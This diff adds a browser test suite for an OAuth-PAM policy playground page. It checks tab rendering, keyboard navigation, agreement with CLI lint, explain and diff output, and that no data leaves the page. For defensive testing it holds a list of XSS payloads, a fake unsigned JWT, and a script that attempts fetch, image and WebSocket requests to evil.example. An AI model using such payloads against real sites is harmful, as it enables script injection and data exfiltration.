@@ -1,0 +1,564 @@
+/**
+ * The playground in a browser, opened from disk: how it looks, that it says what the command line
+ * says, that nothing leaves it, and that hands which have only a keyboard reach everything.
+ *
+ * @module
+ */
+import assert from "node:assert/strict";
+import { cli } from "../support/cli.ts";
+import { largeDocument } from "../support/large_policies.ts";
+import {
+  type Browser,
+  type BrowserPage,
+  startBrowser,
+} from "../support/page_check.ts";
+import { playgroundHere } from "../support/playground.ts";
+
+const POLICIES = new URL("../../policies/", import.meta.url).pathname;
+const SHIPPED = [...Deno.readDirSync(POLICIES)]
+  .map(({ name }) => name)
+  .filter((name) => /^[^.]+\.yaml$/.test(name)).sort();
+const TABS = ["findings", "explain", "who", "tests", "compare", "import"];
+const NOW = "2026-01-01T12:00:00Z";
+
+/** Fields for code scroll, also sideways: YAML that wraps cannot be read. */
+const EXPECTED = { scrolls: ["#editor", "textarea"] };
+
+const MARKUP = [
+  `</script><script>alert(1)</script>`,
+  `<img src=x onerror=alert(1)>`,
+  `"><svg onload=alert(1)>`,
+  `<iframe srcdoc="<script>alert(1)</script>">`,
+  `</textarea></pre><style>*{display:none}</style>`,
+  `javascript:alert(1)`,
+  "${alert(1)}",
+  `&lt;img src=x onerror=alert(1)&gt;`,
+];
+
+/** Such a policy is in order: names of groups may be anything. */
+const HOSTILE = `version: 1
+issuers:
+  campus: {issuer: https://login.example.edu, audiences: [ssh, ${
+  JSON.stringify(MARKUP[1])
+}]}
+rules:
+  staff:
+    description: ${JSON.stringify(MARKUP.join(" "))}
+    when: {groups: {any: ${JSON.stringify(MARKUP)}}}
+    accounts: [{names: [deploy]}]
+`;
+
+/** {"iss":"https://login.example.edu","sub":"u1"}, and a signature of nothing. */
+const TOKEN = [
+  { alg: "RS256", typ: "JWT" },
+  { iss: "https://login.example.edu", sub: "u1", groups: [MARKUP[1]] },
+].map((part) =>
+  btoa(JSON.stringify(part)).replaceAll("=", "").replaceAll("+", "-")
+    .replaceAll("/", "_")
+).join(".") + ".c2VjcmV0LXNpZ25hdHVyZQ";
+
+Deno.test("the playground in a browser", async (t) => {
+  const folder = await Deno.makeTempDir({ prefix: "oauth-pam-playground-" });
+  const path = `${folder}/playground.html`;
+  try {
+    await Deno.writeTextFile(path, await playgroundHere());
+    await using browser = await startBrowser();
+    const start = (fragment = "") =>
+      opened(browser, `file://${path}${fragment}`);
+    await t.step("how each tab looks, and what Tab reaches in it", async () => {
+      await using page = await start();
+      await put(page, "explain-account", "alice");
+      await put(page, "explain-claims", claimsFor("https://login.example.com"));
+      await put(
+        page,
+        "old-text",
+        await Deno.readTextFile(`${POLICIES}okta.yaml`),
+      );
+      await put(
+        page,
+        "import-line",
+        "issuer=https://login.example.edu aud=ssh",
+      );
+      for (const tab of TABS) {
+        await show(page, tab);
+        const faults = await page.check(EXPECTED);
+        // lines of the policy, to which a handler leads
+        const wrong = faults.filter(({ kind, what }) =>
+          kind !== "link" || !/"#L\d+"$/.test(what)
+        );
+        assert.deepEqual(wrong, [], tab);
+        assert.deepEqual(await page.keyboard(), [], tab);
+      }
+      assert.deepEqual(await page.moving(), []);
+      await silent(page, path);
+    });
+    await t.step(
+      "every shipped policy: findings, decision and diff of the command line",
+      async () => {
+        await using page = await start();
+        const decisions = new Set<string>();
+        for (const name of SHIPPED) {
+          decisions.add(await asCommandLine(page, name));
+        }
+        assert.ok(decisions.size > 1, [...decisions].join());
+        await silent(page, path);
+      },
+    );
+    await t.step(
+      "a policy with faults: the findings of the command line",
+      async () => {
+        await using page = await start();
+        const policy = HOSTILE.replace("description", "descripton").replace(
+          "audiences",
+          "audience",
+        );
+        await put(page, "policy-text", policy);
+        await sameFindings(page, { policy, tests: "" });
+        // each leads to its place
+        await page.click("#findings button");
+        assert.equal(
+          await page.evaluate("document.activeElement.id"),
+          "policy-text",
+        );
+      },
+    );
+    await t.step("hostile text stays text", async () => {
+      await using page = await start();
+      await put(page, "policy-text", HOSTILE);
+      await put(page, "explain-account", "deploy");
+      await put(
+        page,
+        "explain-claims",
+        JSON.stringify({
+          iss: "https://login.example.edu",
+          sub: "u1",
+          groups: MARKUP,
+        }),
+      );
+      await put(
+        page,
+        "tests-text",
+        `tests:\n  - name: ${
+          JSON.stringify(MARKUP.join())
+        }\n    account: x\n    expect: deny\n`,
+      );
+      await put(
+        page,
+        "old-text",
+        HOSTILE.replace("staff:", "others:").replace(
+          "https://login",
+          "https://old",
+        ),
+      );
+      await put(
+        page,
+        "import-line",
+        `issuer=https://x.example aud=${MARKUP[1]?.replaceAll(" ", "")}`,
+      );
+      const elements = () =>
+        page.evaluate<number>(
+          `document.querySelectorAll("img, iframe, object, embed, [onerror], [onload], main script, main style, a[href^='javascript:' i]").length`,
+        );
+      const shown: string[] = [];
+      for (const tab of TABS) {
+        await show(page, tab);
+        assert.equal(await elements(), 0, tab);
+        shown.push(await page.evaluate<string>("document.body.innerText"));
+      }
+      for (const word of MARKUP) {
+        const written = JSON.stringify(word).slice(1, -1);
+        assert.ok(
+          shown.some((text) => text.includes(word) || text.includes(written)),
+          word,
+        );
+      }
+      await silent(page, path);
+    });
+    await t.step("a token is decoded, marked, and goes nowhere", async () => {
+      await using page = await start();
+      await put(page, "policy-text", HOSTILE);
+      await show(page, "explain");
+      await page.click("#evidence-token");
+      await put(page, "explain-account", "deploy");
+      await put(page, "explain-token", TOKEN);
+      const said = await textOf(page, "explained");
+      assert.match(said, /not verified/);
+      assert.match(said, /"sub": "u1"/);
+      assert.match(
+        await textOf(page, "status"),
+        /^allow: .*if the token is genuine$/,
+      );
+      const link = await shared(page, { claims: false });
+      const [, fragment = ""] = link.split("#");
+      assert.ok(!(await inflated(fragment)).includes(TOKEN.slice(0, 20)));
+      assert.deepEqual(
+        await page.evaluate(
+          "[localStorage.length, sessionStorage.length, document.cookie, location.hash]",
+        ),
+        [0, 0, "", ""],
+      );
+      await silent(page, path);
+      // nor could a script of the page send it
+      const ways = await page.evaluate<string[]>(`(async () => {
+        const open = [];
+        await fetch("https://evil.example/?" + 1).then(() => open.push("fetch"), () => {});
+        await new Promise((settle) => {
+          const image = new Image();
+          image.onload = () => { open.push("image"); settle(); };
+          image.onerror = settle;
+          image.src = "https://evil.example/pixel";
+        });
+        try { new WebSocket("wss://evil.example"); } catch { return open; }
+        return open;
+      })()`);
+      assert.deepEqual(ways, []);
+      assert.deepEqual((await page.events()).connections, []);
+    });
+    await t.step("a link carries 64 kB there and back", async () => {
+      const lines = Array.from(
+        { length: 1_300 },
+        (_, index) => `# ${index * 7919} ${crypto.randomUUID()} é`,
+      );
+      const policy = `${HOSTILE}${lines.join("\n")}\n`;
+      assert.ok(policy.length > 64_000);
+      await using page = await start();
+      await put(page, "policy-text", policy);
+      const link = await shared(page, { claims: false });
+      await using other = await opened(browser, link);
+      assert.deepEqual(
+        JSON.parse(await inflated(link.split("#")[1] ?? "")).policy,
+        policy,
+      );
+      assert.equal(await shared(other, { claims: false }), link);
+      await sameFindings(other, {
+        policy,
+        tests: JSON.parse(await inflated(link.split("#")[1] ?? "")).tests,
+      });
+      const { requests } = await other.events();
+      assert.deepEqual(
+        requests.slice(1).filter((url) => !url.startsWith("blob:null/")),
+        [],
+      );
+    });
+    await t.step("a damaged link says so, and the page works", async () => {
+      await using page = await start();
+      await put(page, "policy-text", HOSTILE);
+      const link = await shared(page, { claims: false });
+      for (
+        const [fragment, says] of [
+          ["AAAA", /the link is (?:damaged|not one of this page)/],
+          ["%3Cimg%20src=x%20onerror=alert(1)%3E", /the link is damaged/],
+          [(link.split("#")[1] ?? "").slice(0, -9), /the link is damaged/],
+          [`${link.split("#")[1]}AAAA`, /the link is damaged/],
+        ] as const
+      ) {
+        await using other = await browser.open(`file://${path}#${fragment}`);
+        await other.until(`${STATUS}.textContent !== ""`);
+        await idle(other);
+        assert.match(await textOf(other, "status"), says);
+        await put(other, "policy-text", HOSTILE);
+        await sameFindings(other, { policy: HOSTILE, tests: "" });
+        assert.deepEqual((await other.events()).errors, []);
+      }
+    });
+    await t.step(
+      "the keyboard alone, from the field for the policy to each answer",
+      async () => {
+        await using page = await start();
+        await page.until(
+          `document.getElementById("example").options.length > 5`,
+        );
+        const at = () => page.evaluate<string>("document.activeElement.id");
+        const tabTo = async (matches: (id: string) => boolean) => {
+          for (let step = 0; step < 20; step++) {
+            await page.press("Tab");
+            if (matches(await at())) return;
+          }
+          assert.fail(`Tab does not get there, but to ${await at()}`);
+        };
+        await tabTo((id) => id === "policy-text");
+        await page.press("Control+a");
+        await page.type(HOSTILE);
+        await tabTo((id) => id.startsWith("tab-"));
+        assert.equal(await at(), "tab-findings");
+        await idle(page);
+        assert.match(
+          await textOf(page, "findings"),
+          /Nothing was found|level|warning/,
+        );
+        for (const [index, tab] of TABS.entries()) {
+          if (index > 0) await page.press("ArrowRight");
+          assert.equal(await at(), `tab-${tab}`);
+          await idle(page);
+          assert.ok(
+            await page.evaluate(
+              `!document.getElementById("panel-${tab}").hidden`,
+            ),
+          );
+        }
+        await page.press("Home");
+        await page.press("ArrowRight");
+        await tabTo((id) => id === "explain-account");
+        await page.type("deploy");
+        await tabTo((id) => id === "explain-claims");
+        await page.type(
+          JSON.stringify({
+            iss: "https://login.example.edu",
+            sub: "u1",
+            groups: [MARKUP[0]],
+          }),
+        );
+        await idle(page);
+        assert.match(await textOf(page, "status"), /^allow/);
+      },
+    );
+    await t.step("a megabyte of policy does not stop the page", async () => {
+      await using page = await start();
+      await page.evaluate(
+        `(globalThis.longest = 0, new PerformanceObserver((list) => {
+        for (const { duration } of list.getEntries()) longest = Math.max(longest, duration);
+      }).observe({ type: "longtask" }))`,
+      );
+      // it sees what stops the page
+      await page.evaluate(`void setTimeout(() => {
+        for (const end = performance.now() + 250; performance.now() < end;);
+      })`);
+      await page.until("longest >= 200");
+      await page.evaluate(`document.getElementById("policy-text").focus()`);
+      const lines = Array.from(
+        { length: 22_000 },
+        (_, index) => `# line ${index} of a policy that is far too long`,
+      );
+      const text = `${HOSTILE}${lines.join("\n")}\n`;
+      assert.ok(text.length > 1_000_000);
+      // on a busy machine anything can take long once
+      const tries: number[] = [];
+      for (let attempt = 0; attempt < 3; attempt++) {
+        await page.evaluate("void (longest = 0)");
+        await page.press("Control+a");
+        await page.type(text);
+        await page.type("#");
+        await page.press("PageUp", 3);
+        await idle(page);
+        tries.push(await page.evaluate<number>("longest"));
+        if ((tries.at(-1) ?? 0) < 200) break;
+      }
+      assert.ok(Math.min(...tries) < 200, tries.join(", "));
+    });
+    await t.step(
+      "what takes too long says that it is not finished",
+      async () => {
+        await using page = await start();
+        await put(page, "policy-text", JSON.stringify(largeDocument(1, 1_500)));
+        await put(page, "old-text", JSON.stringify(largeDocument(2, 1_500)));
+        await show(page, "compare");
+        assert.match(await textOf(page, "status"), /not finished/);
+        assert.match(
+          await textOf(page, "compared"),
+          /^not finished: it is not known what changes/,
+        );
+      },
+    );
+  } finally {
+    await Deno.remove(folder, { recursive: true });
+  }
+});
+
+const STATUS = `document.getElementById("status")`;
+
+async function opened(browser: Browser, url: string): Promise<BrowserPage> {
+  const page = await browser.open(url);
+  await page.until(
+    `document.getElementById("findings").textContent !== "" && !${STATUS}.hasAttribute("data-busy")`,
+  );
+  return page;
+}
+
+/** Waits until everything that was asked is answered. */
+async function idle(page: BrowserPage): Promise<void> {
+  await page.until(`!${STATUS}.hasAttribute("data-busy")`);
+}
+
+/** As if somebody had pasted it. */
+async function put(page: BrowserPage, id: string, text: string): Promise<void> {
+  await putAll(page, { [id]: text });
+}
+
+async function putAll(
+  page: BrowserPage,
+  texts: Readonly<Record<string, string>>,
+): Promise<void> {
+  await page.evaluate(`(() => {
+    for (const [id, text] of Object.entries(${JSON.stringify(texts)})) {
+      const field = document.getElementById(id);
+      field.select();
+      field.setRangeText(text);
+      field.dispatchEvent(new InputEvent("input", { bubbles: true }));
+    }
+  })()`);
+  await idle(page);
+}
+
+async function show(page: BrowserPage, tab: string): Promise<void> {
+  await page.click(`#tab-${tab}`);
+  await idle(page);
+}
+
+async function textOf(page: BrowserPage, id: string): Promise<string> {
+  return await page.evaluate(
+    `document.getElementById(${JSON.stringify(id)}).textContent`,
+  );
+}
+
+/** Nothing was asked of anybody but the page itself, and nobody complained. */
+async function silent(page: BrowserPage, path: string): Promise<void> {
+  const { requests, ...rest } = await page.events();
+  assert.deepEqual(rest, { connections: [], console: [], errors: [] });
+  // a worker is a part of the page
+  assert.deepEqual(
+    requests.filter((url) => !url.startsWith("blob:null/")),
+    [`file://${path}`],
+  );
+}
+
+async function shared(
+  page: BrowserPage,
+  { claims }: { claims: boolean },
+): Promise<string> {
+  await page.evaluate(`(() => {
+    document.getElementById("share").open = true;
+    document.getElementById("share-claims").checked = ${claims};
+    document.getElementById("share-link").value = "";
+  })()`);
+  await page.click("#share-make");
+  await page.until(`document.getElementById("share-link").value !== ""`);
+  return await page.evaluate(`document.getElementById("share-link").value`);
+}
+
+async function inflated(fragment: string): Promise<string> {
+  const base64 = fragment.replaceAll("-", "+").replaceAll("_", "/");
+  const bytes = Uint8Array.from(atob(base64), (sign) => sign.charCodeAt(0));
+  const stream = new Blob([bytes]).stream().pipeThrough(
+    new DecompressionStream("deflate-raw"),
+  );
+  return await new Response(stream).text();
+}
+
+function claimsFor(issuer: string): string {
+  return JSON.stringify({
+    iss: issuer,
+    sub: "u1",
+    email: "alice@example.com",
+    email_verified: true,
+    preferred_username: "alice",
+    groups: ["employees", "ssh"],
+  });
+}
+
+interface Texts {
+  readonly policy: string;
+  readonly tests: string;
+}
+
+function filesOf({ policy, tests }: Texts): Record<string, string> {
+  return {
+    "policy.yaml": policy,
+    ...(tests === "" ? {} : { "policy.test.yaml": tests }),
+  };
+}
+
+/** The list on the page says of each finding what the JSON of `policy lint` says. */
+async function sameFindings(page: BrowserPage, texts: Texts): Promise<void> {
+  const { stdout } = await cli(
+    ["policy", "lint", "policy.yaml", "--format", "json"],
+    { files: filesOf(texts) },
+  );
+  const { findings } = JSON.parse(stdout) as {
+    findings: {
+      line: number;
+      column: number;
+      level: string;
+      message: string;
+      id: string;
+      hint?: string;
+    }[];
+  };
+  await show(page, "findings");
+  const items = await page.evaluate<string[]>(
+    `[...document.querySelectorAll("#findings li")].map((each) => each.textContent)`,
+  );
+  assert.deepEqual(
+    items,
+    findings.map(({ line, column, level, message, id, hint }) =>
+      `Line ${line}, column ${column}${level} ${message} [${id}]${
+        hint === undefined ? "" : `hint: ${hint}`
+      }`
+    ),
+  );
+}
+
+/** What the panel's part "JSON" holds, as a value; `null` without one. */
+async function jsonIn(page: BrowserPage, id: string): Promise<unknown> {
+  const there = await page.evaluate<boolean>(`(() => {
+    const details = document.querySelector("#${id} details");
+    if (details !== null) details.open = true;
+    return details !== null;
+  })()`);
+  if (!there) return null;
+  await page.until(`document.querySelector("#${id} details pre") !== null`);
+  const text = await page.evaluate<string>(
+    `document.querySelector("#${id} details pre").textContent`,
+  );
+  return JSON.parse(text);
+}
+
+/** Puts the same to both, and says how it was decided. */
+async function asCommandLine(page: BrowserPage, name: string): Promise<string> {
+  const policy = await Deno.readTextFile(`${POLICIES}${name}`);
+  const tests = await Deno.readTextFile(
+    `${POLICIES}${name.replace(".yaml", ".test.yaml")}`,
+  );
+  await page.evaluate(`(() => {
+    const list = document.getElementById("example");
+    list.value = ${JSON.stringify(name.replace(".yaml", ""))};
+    list.dispatchEvent(new Event("change"));
+  })()`);
+  await idle(page);
+  await sameFindings(page, { policy, tests });
+  const issuer = /issuer: (https:\S+)/.exec(policy)?.[1] ?? "";
+  const claims = claimsFor(issuer);
+  const old = policy.replace(
+    "\nrules:\n",
+    "\nrules:\n  test:\n    when: { groups: { any: [x] } }\n    accounts: [{ names: [extra] }]\n",
+  );
+  await putAll(page, {
+    "explain-account": "alice",
+    "explain-rhost": "10.1.2.3",
+    "explain-time": NOW,
+    "explain-claims": claims,
+    "old-text": old,
+  });
+  await show(page, "explain");
+  const explained = await cli(
+    [
+      ...["policy", "explain", "policy.yaml", "--account", "alice"],
+      ...["--rhost", "10.1.2.3", "--now", NOW, "--claims", "-"],
+      ...["--service", "sshd", "--format", "json"],
+    ],
+    { files: filesOf({ policy, tests }), stdin: claims },
+  );
+  const decided = await jsonIn(page, "explained");
+  if (decided === null) assert.equal(explained.code, 3, name);
+  else assert.deepEqual(decided, JSON.parse(explained.stdout), name);
+  await show(page, "compare");
+  const compared = await cli(
+    ["policy", "diff", "old.yaml", "policy.yaml", "--format", "json"],
+    { files: { ...filesOf({ policy, tests }), "old.yaml": old } },
+  );
+  assert.deepEqual(
+    await jsonIn(page, "compared"),
+    JSON.parse(compared.stdout),
+    name,
+  );
+  return decided === null ? "none" : await textOf(page, "status");
+}
